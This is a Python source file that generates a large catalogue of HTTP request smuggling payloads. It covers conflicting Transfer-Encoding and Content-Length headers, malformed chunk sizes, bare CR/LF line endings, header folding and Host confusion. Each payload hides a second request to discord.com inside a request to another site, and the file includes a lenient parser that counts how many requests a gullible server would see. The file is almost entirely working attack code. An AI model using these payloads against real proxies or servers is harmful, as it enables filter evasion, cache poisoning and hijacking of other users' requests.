"""Requests with another one hidden inside, as bytes; and all the ways in which a server may read what comes.

In a payload `{T}` is the target of the first request (an open site), `{N}` the payload's number, so that every request
tells whence it is; the hidden one is for `/{N}/two` of a closed site. `{B}` is a body with the hidden request in it,
`{L}` its length, `{S}` the hidden request itself.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

FIRST, SECOND = "leerles.example", "discord.com"
_HIDDEN = f"GET /{{N}}/two HTTP/1.1\r\nHost: {SECOND}\r\n\r\n"
_ENDED = "0\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Payload:
    """One trick: its name and its text, in latin-1."""

    name: str
    text: str

    def bytes(self, number: int, *, inside_tls: bool) -> bytes:
        """What is sent, as request to a proxy or inside TLS."""
        path = f"/{number}/one"
        hidden = _HIDDEN.replace("{N}", str(number))
        body = _ENDED + hidden
        target = path if inside_tls else f"http://{FIRST}{path}"
        text = self.text.replace("{B}", body).replace("{L}", str(len(body))).replace("{S}", hidden)
        return text.replace("{T}", target).replace("{P}", path).replace("{N}", str(number)).encode("latin-1")


def _post(headers: str, body: str = "{B}", version: str = "HTTP/1.1", method: str = "POST") -> str:
    return f"{method} {{T}} {version}\r\nHost: {FIRST}\r\n{headers}\r\n\r\n{body}"


_CODINGS = (
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: chunked\x0b",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: \x00chunked",
    "Transfer-Encoding: chunked\x00",
    "Transfer-Encoding: \xa0chunked",
    "Transfer-Encoding: \x85chunked",
    "Transfer-Encoding: CHUNKED",
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\n chunked",
    "Transfer-Encoding\r\n : chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding\x00: chunked",
    "\x00Transfer-Encoding: chunked",
    "X: x\nTransfer-Encoding: chunked",
    "X: x\rTransfer-Encoding: chunked",
    "X: x\r\n Transfer-Encoding: chunked",
    "Content-Encoding: chunked",
    "TE: chunked",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
)
_LENGTHS = (
    "Content-Length: 0\r\nContent-Length: {L}",
    "Content-Length: {L}\r\nContent-Length: 0",
    "Content-Length: 0, {L}",
    "Content-Length: {L}, {L}",
    "Content-Length: +0",
    "Content-Length: -1",
    "Content-Length: 0x0",
    "Content-Length: 0_0",
    "Content-Length: 0e1",
    "Content-Length: 0.0",
    "Content-Length: ",
    "Content-Length: \x000",
    "Content-Length: 0\x00",
    "Content-Length: \x0b0",
    "Content-Length: \xb2",
    "Content-Length : {L}",
    "Content-Length\t: {L}",
    "Content-Length: 0\r\n Content-Length: {L}",
    "Content-Length: 99999999999999999999",
    "Content_Length: {L}",
    "Content-Length: 0\nContent-Length: {L}",
    "X: x\rContent-Length: {L}",
    "Connection: Content-Length\r\nContent-Length: {L}",
    "Content-Length: 0{L}",
)
_CHUNKS = (
    "0x0\r\n\r\n{S}",
    "-1\r\n\r\n{S}",
    "+0\r\n\r\n{S}",
    " 0\r\n\r\n{S}",
    "0 \r\n\r\n{S}",
    "0_0\r\n\r\n{S}",
    "00000000000000000000\r\n\r\n{S}",
    "0;a=b\r\n\r\n{S}",
    "0;\n\r\n{S}",
    "0;a\rb\r\n\r\n{S}",
    "0\n\n{S}",
    "0\r\r\n{S}",
    "0\r\n\n{S}",
    "0\r\n{S}",
    "0\r\nContent-Length: 0\r\nHost: discord.com\r\n\r\n{S}",
    "1\r\nab\r\n0\r\n\r\n{S}",
    "3\r\nabc0\r\n\r\n{S}",
    "3;x\nabc\r\n0\r\n\r\n{S}",
    "1\r\na\n0\r\n\r\n{S}",
    "10000000000000000\r\n\r\n{S}",
    "\r\n0\r\n\r\n{S}",
    "\r\n{S}",
)
_LINES = {
    "bare LF everywhere": f"GET {{T}} HTTP/1.1\nHost: {FIRST}\n\n{{S}}",
    "bare CR everywhere": f"GET {{T}} HTTP/1.1\rHost: {FIRST}\r\r{{S}}",
    "headers end in LF LF": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\n\n{{S}}",
    "headers end in CRLF LF": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n\n{{S}}",
    "headers end in LF CRLF": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\n\r\n{{S}}",
    "CR in a value": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\nX: x\r\r{{S}}",
    "request in a value by LF": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\nX: x\n\n{{S}}",
    "folded Host": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n {SECOND}\r\n\r\n",
    "Host in a folded line": f"GET {{T}} HTTP/1.1\r\nX: x\r\n Host: {SECOND}\r\nHost: {FIRST}\r\n\r\n",
    "NUL in a value": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\nX: a\x00\r\n\r\n{{S}}",
    "NUL in the path": f"GET {{T}}\x00 HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "space before a colon": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\nHost : {SECOND}\r\n\r\n",
    "line without a colon": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\nGET /{{N}}/two HTTP/1.1\r\n\r\n{{S}}",
    "empty name": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n: x\r\n\r\n{{S}}",
    "first header begins with a space": f"GET {{T}} HTTP/1.1\r\n Host: {SECOND}\r\nHost: {FIRST}\r\n\r\n",
    "empty lines before": f"\r\n\r\nGET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "two spaces in the line": f"GET  {{T}}  HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "tabs in the line": f"GET\t{{T}}\tHTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "two versions": f"GET {{T}} HTTP/1.1 HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "CR in the line": f"GET {{T}}\rX HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "request in the path by LF": f"GET {{T}} HTTP/1.1\n{{S}} HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "quoted line ends in the path": f"GET {{T}}%0d%0aHost:%20{SECOND}%0d%0a%0d%0a HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "HTTP/0.9": "GET {T}\r\n\r\n{S}",
    "HTTP/1.0 kept alive": f"GET {{T}} HTTP/1.0\r\nHost: {FIRST}\r\nConnection: keep-alive\r\n\r\n{{S}}",
    "HTTP/1.0 and a coding": _post("Transfer-Encoding: chunked", version="HTTP/1.0"),
    "HTTP/1.2": f"GET {{T}} HTTP/1.2\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "HTTP/2.0": f"GET {{T}} HTTP/2.0\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "HTTP/01.1": f"GET {{T}} HTTP/01.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "http/1.1": f"GET {{T}} http/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "the preface of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{S}",
    "small letters": f"get {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "NUL in the method": f"G\x00ET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "a tunnel in between": f"CONNECT {SECOND}:80 HTTP/1.1\r\nHost: {SECOND}:80\r\n\r\n{{S}}",
    "OPTIONS *": f"OPTIONS * HTTP/1.1\r\nHost: {SECOND}\r\n\r\n{{S}}",
    "GET with a length": _post("Content-Length: {L}", method="GET"),
    "GET with a coding": _post("Transfer-Encoding: chunked", method="GET"),
    "HEAD with a length": _post("Content-Length: {L}", method="HEAD"),
    "DELETE with a coding": _post("Transfer-Encoding: chunked", method="DELETE"),
    "h2c": _post(
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk", "{S}", method="GET"
    ),
    "upgrade to TLS": _post("Connection: Upgrade\r\nUpgrade: TLS/1.0", "{S}", method="GET"),
    "upgrade to nothing": _post("Connection: Upgrade\r\nUpgrade: websocket", "{S}", method="POST"),
    "Connection: Host": _post("Connection: Host, keep-alive", "{S}", method="GET"),
    "Expect": _post("Expect: 100-continue\r\nContent-Length: {L}"),
    "Expect with both": _post("Expect: 100-continue\r\nContent-Length: {L}\r\nTransfer-Encoding: chunked"),
    "Expect something else": _post("Expect: 100-continuee\r\nContent-Length: {L}"),
    "Expect and no body": _post("Expect: 100-continue\r\nContent-Length: 0", "{S}"),
    "pipelined": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\n\r\n{{S}}",
    "pipelined after a form": _post("Content-Length: 3", "a=b{S}"),
    "another Host": f"GET {{T}} HTTP/1.1\r\nHost: {SECOND}\r\n\r\n",
    "another site in the line": f"GET http://{SECOND}/{{N}}/two HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "https in the line": f"GET https://{SECOND}/{{N}}/two HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "another site after an @": f"GET http://{FIRST}@{SECOND}/{{N}}/two HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "no scheme in the line": f"GET //{SECOND}/{{N}}/two HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "a bare host in the line": f"GET {SECOND}:80/{{N}}/two HTTP/1.1\r\nHost: {FIRST}\r\n\r\n",
    "two Hosts": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}\r\nHost: {SECOND}\r\n\r\n",
    "two Hosts turned round": f"GET {{T}} HTTP/1.1\r\nHost: {SECOND}\r\nHost: {FIRST}\r\n\r\n",
    "two Hosts in one": f"GET {{T}} HTTP/1.1\r\nHost: {FIRST}, {SECOND}\r\n\r\n",
    "no Host": "GET {T} HTTP/1.1\r\n\r\n{S}",
}
PAYLOADS = (
    *(Payload(f"length, then {one!r}", _post(f"Content-Length: {{L}}\r\n{one}")) for one in _CODINGS),
    *(Payload(f"short length, and {one!r}", _post(f"{one}\r\nContent-Length: 5")) for one in _CODINGS),
    *(Payload(f"{one!r} alone", _post(one)) for one in _CODINGS),
    *(Payload(repr(one), _post(one)) for one in _LENGTHS),
    *(Payload(f"chunk {one!r}", _post("Transfer-Encoding: chunked", one)) for one in _CHUNKS),
    *(Payload(name, text) for name, text in _LINES.items()),
)


# --- how a server may read it ----------------------------------------------------------------------------------------

_LINE_ENDS = {"crlf": rb"\r\n", "lf": rb"\r?\n", "cr": rb"\r\n|\r|\n"}
_CODED = re.compile(rb"transfer.?encoding[\s\x00]*[:=].*chunked", re.IGNORECASE | re.DOTALL)
_LENGTH = re.compile(rb"content.?length[\s\x00]*[:=][\s\x00\x0b,+]*(\d+)", re.IGNORECASE)
_STARTS = re.compile(rb"[A-Za-z]{3,10}[ \t]+\S+")


def most_read(data: bytes) -> int:
    """How many requests the most gullible of servers sees in the bytes of one connection."""
    ways = product(_LINE_ENDS.values(), ("length", "coding"), (_first, _last))
    return max(sum(1 for _ in _read(data, *way)) for way in ways)


def _read(data: bytes, ends: bytes, trusts: str, which: Callable[[list[int]], int]) -> Iterator[bytes]:
    """The requests in `data`, by a server with these line ends, that trusts length or coding, the first or last one."""
    over = re.compile(rb"(?>%s)(?>%s)" % (ends, ends))
    while data:
        data = data.lstrip(b"\r\n")
        end = over.search(data)
        if end is None or not _STARTS.match(data):
            return
        head, data = data[: end.start()], data[end.end() :]
        yield head
        lengths = [int(one) for one in _LENGTH.findall(head)]
        coded = _CODED.search(head) is not None
        if coded and (trusts == "coding" or not lengths):
            data = _after_chunks(data)
        elif lengths:
            data = data[which(lengths) :]


def _after_chunks(data: bytes) -> bytes:
    """What follows a body in chunks, read as kindly as can be."""
    while True:
        size = re.match(rb"[\s+]*(?:0x)?([0-9a-fA-F]+)[^\n]*\n", data)
        if size is None:
            return b""
        data = data[size.end() :]
        if int(size[1], 16) == 0:
            end = re.search(rb"^\r?\n|\r?\n\r?\n", data)
            return data[end.end() :] if end else b""
        data = data[int(size[1], 16) :].lstrip(b"\r\n")


def _first(lengths: list[int]) -> int:
    return lengths[0]


def _last(lengths: list[int]) -> int:
    return lengths[-1]
